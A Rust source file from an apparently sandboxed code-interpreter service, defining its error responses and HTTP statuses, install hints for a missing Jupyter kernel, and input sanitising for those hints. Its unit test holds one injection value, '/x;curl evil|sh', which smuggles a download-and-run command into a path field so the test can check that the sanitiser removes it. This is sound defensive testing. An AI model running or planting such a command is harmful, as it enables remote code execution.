//! What the code interpreter answers when it cannot do what was asked. Plain text, which one SDK shows, and also the reason of the
//! status line, which is all that the other one shows.

use axum::http::StatusCode;
use axum::http::header::CONTENT_TYPE;
use axum::response::{IntoResponse, Response};
use hyper::ext::ReasonPhrase;
use model::Problem;

use super::bridge::Ended;
use super::wire::Missing;
use crate::e2b::connect;
use crate::e2b::failure::{Failure, sentence};

#[derive(Debug, thiserror::Error)]
pub(super) enum Refused {
    #[error("missing or wrong access token of the sandbox")]
    NoToken,
    #[error("{message}")]
    Request { message: String },
    #[error("zeno's code interpreter runs `python`, and not `{language}`")]
    Language { language: String },
    #[error("only one of context_id and language can be given")]
    TwoContexts,
    #[error(
        "Context {id} not found: contexts end with the processes of their sandbox and with zeno's daemon"
    )]
    NoContext { id: String },
    #[error("the sandbox has as many contexts as it can have, which is {most}")]
    TooMany { most: usize },
    #[error("too many executions are waiting for this context")]
    Busy,
    #[error("{}", missing(.0))]
    Missing(Missing),
    #[error("the kernel of {python} did not start: {reason}")]
    Broken { python: String, reason: String },
    #[error("the kernel did not start")]
    NotStarted(#[source] Ended),
    #[error("the kernel did not start in time")]
    Late,
    #[error("{}", sentence(.0))]
    Sandbox(#[from] Problem),
    #[error("zeno failed to start the kernel")]
    Task(#[source] tokio::task::JoinError),
    #[error("the machine gave no random number for an id")]
    Random(#[source] getrandom::Error),
    #[error("zeno's code interpreter has no `{path}`")]
    NoRoute { path: String },
}

impl From<connect::Error> for Refused {
    fn from(error: connect::Error) -> Self {
        Self::Request { message: error.message }
    }
}

impl Refused {
    fn status(&self) -> StatusCode {
        match self {
            Self::NoToken => StatusCode::UNAUTHORIZED,
            Self::Request { .. } | Self::Language { .. } | Self::TwoContexts => StatusCode::BAD_REQUEST,
            Self::NoContext { .. } | Self::NoRoute { .. } => StatusCode::NOT_FOUND,
            Self::TooMany { .. } | Self::Busy => StatusCode::TOO_MANY_REQUESTS,
            Self::Missing(_) => StatusCode::NOT_IMPLEMENTED,
            Self::Broken { .. } | Self::NotStarted(_) | Self::Late | Self::Task(_) | Self::Random(_) => {
                StatusCode::INTERNAL_SERVER_ERROR
            }
            Self::Sandbox(problem) => Failure::from(problem.clone()).status(),
        }
    }
}

/// What is missing, and who can install it where. The sandbox says it, and people run it: only plain words go into it.
fn missing(missing: &Missing) -> String {
    let user = word(&missing.user, "user");
    if missing.python.is_empty() {
        return format!(
            "the sandbox has no Python that its user `{user}` can run: install python3 on this machine, and for it \
             ipykernel and jupyter_client"
        );
    }
    let (python, owner) = (word(&missing.python, "python3"), word(&missing.owner, "its owner"));
    let flag = if missing.managed { "--break-system-packages " } else { "" };
    format!(
        "there is no Jupyter in the sandbox: no Python that its user `{user}` can run has ipykernel and jupyter_client. \
         For all sandboxes, on this machine as `{owner}`: `{python} -m pip install {flag}ipykernel jupyter_client`. For this \
         sandbox only, in it: `python3 -m venv ~/.venv && ~/.venv/bin/pip install ipykernel jupyter_client`"
    )
}

fn word<'a>(said: &'a str, instead: &'a str) -> &'a str {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"/._-".contains(&byte);
    let is_word = !said.is_empty() && !said.starts_with('-') && said.bytes().all(is_plain);
    if is_word { said } else { instead }
}

impl IntoResponse for Refused {
    fn into_response(self) -> Response {
        if let Self::Broken { .. } | Self::NotStarted(_) | Self::Late | Self::Task(_) = &self {
            tracing::warn!(error = &self as &dyn std::error::Error, "a kernel did not start");
        }
        let cause = std::error::Error::source(&self).map(|cause| format!(": {cause}"));
        let text = format!("{self}{}", cause.unwrap_or_default());
        let line: String = text.chars().map(|c| if c.is_control() { ' ' } else { c }).take(LONGEST).collect();
        let mut response =
            (self.status(), [(CONTENT_TYPE, "text/plain; charset=utf-8")], line.clone()).into_response();
        if let Ok(reason) = ReasonPhrase::try_from(line) {
            response.extensions_mut().insert(reason);
        }
        response
    }
}

/// A status line is not read for ever.
const LONGEST: usize = 1024;

#[cfg(test)]
mod tests {
    use super::*;

    fn told(missing: Missing) -> String {
        let response = Refused::Missing(missing).into_response();
        assert_eq!(response.status(), StatusCode::NOT_IMPLEMENTED);
        let reason = response.extensions().get::<ReasonPhrase>().unwrap();
        String::from_utf8(reason.as_bytes().to_vec()).unwrap()
    }

    #[test]
    fn what_is_missing_is_told_with_how_to_get_it() {
        let missing = |python: &str, owner: &str| Missing {
            python: python.to_owned(),
            managed: true,
            owner: owner.to_owned(),
            user: "user".to_owned(),
        };
        let text = told(missing("/usr/bin/python3", "root"));
        let command =
            "as `root`: `/usr/bin/python3 -m pip install --break-system-packages ipykernel jupyter_client`";
        assert!(text.contains(command), "{text}");
        let forged = told(missing("/x;curl evil|sh", "root`"));
        assert!(forged.contains("as `its owner`: `python3 -m pip"), "{forged}");
        assert!(told(missing("", "")).contains("no Python that its user `user` can run"));
    }
}
